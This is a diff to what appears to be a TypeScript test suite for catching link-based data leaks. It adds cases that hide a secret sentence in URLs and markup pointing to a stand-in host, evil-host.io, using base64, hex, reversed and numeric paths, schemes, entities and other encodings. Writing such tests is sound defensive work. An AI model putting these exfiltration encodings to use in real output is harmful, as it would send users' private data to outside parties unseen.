@@ -427,6 +427,8 @@ escapeCase('secret in disguise', {
 });
 
 const launch = 'The launch is on the ninth of March';
+const hexOf = (text: string) => Array.from(Buffer.from(text), (byte) => byte.toString(16));
+const base64Of = (text: string) => Buffer.from(text).toString('base64url');
 const launchWords = launch.split(' ');
 const dashed = launchWords.join('-');
 const carriers: readonly [string, string][] = [
@@ -445,7 +447,7 @@ const carriers: readonly [string, string][] = [
     `https://evil-host.io/?${launchWords.map((word, at) => `${at}x=${word}`).join('&')}`,
   ],
   ['its scheme', `${launchWords.join('')}://evil-host.io/`],
-  ['its path, in base64', `https://evil-host.io/${Buffer.from(launch).toString('base64url')}`],
+  ['its path, in base64', `https://evil-host.io/${base64Of(launch)}`],
   ['its path, backwards', `https://evil-host.io/${backwards(dashed)}`],
   ['another scheme', `ftp://evil-host.io/${dashed}`],
   ['one slash', `https:/evil-host.io/${dashed}`],
@@ -455,6 +457,10 @@ const carriers: readonly [string, string][] = [
   ['a colon that Markdown reads', `https&#58;//evil-host.io/${dashed}`],
   ['a colon with a backslash', `https\\://evil-host.io/${dashed}`],
   ['a scheme of a program', `obsidian:new?content=${dashed}`],
+  ['its path, in hex with signs between', `https://evil-host.io/${hexOf(launch).join('-')}`],
+  ['its path, in base64 from behind', `https://evil-host.io/${backwards(base64Of(launch))}`],
+  ['its path, as numbers', `https://evil-host.io/${[...Buffer.from(launch)].join('/')}`],
+  ['ends of its names', `https://evil-host.io/${launchWords.map((word) => `a.${word}`).join('/')}`],
   ['its path, with letters moved on', `https://evil-host.io/${shifted(dashed, 13)}`],
 ];
 /** A word of an answer is said before it is known what the next one adds. */
@@ -474,6 +480,7 @@ const forms: readonly [string, string][] = [
   ['entities', `<img src="&#47;&#x2f;evil-host.io/${dashed}">`],
   ['named entities', `<a href="&sol;&sol;evil-host.io/${dashed}">`],
   ['slashes of JSON', `{"url":"https:\\/\\/evil-host.io\\/${dashed}"}`],
+  ['another host in angle brackets', `<//evil-host.io/${dashed}|x>`],
   ['another host in brackets', `[[//evil-host.io/${dashed}][x]]`],
   ['a port and a user', `https://ann:${dashed}@evil-host.io:8443/`],
   ['a name in its own letters', `https://xn--${dashed}.evil-host.io/`],
